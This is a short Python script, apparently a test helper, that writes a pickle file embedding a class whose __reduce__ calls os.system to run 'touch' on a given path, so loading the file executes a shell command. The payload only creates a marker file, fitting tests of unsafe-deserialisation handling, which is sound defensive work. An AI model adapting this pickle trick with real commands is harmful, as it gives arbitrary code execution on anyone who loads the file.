"""Writes a pickle that would make a file if it were run: write_hostile.py FILE PROTOCOL MADE."""
import os
import pickle
import sys


class Hostile:
    def __reduce__(self):
        return (os.system, ("touch " + sys.argv[3],))


with open(sys.argv[1], "wb") as out:
    pickle.dump({"/collection": {"plugin": (Hostile(), {})}}, out, protocol=int(sys.argv[2]))
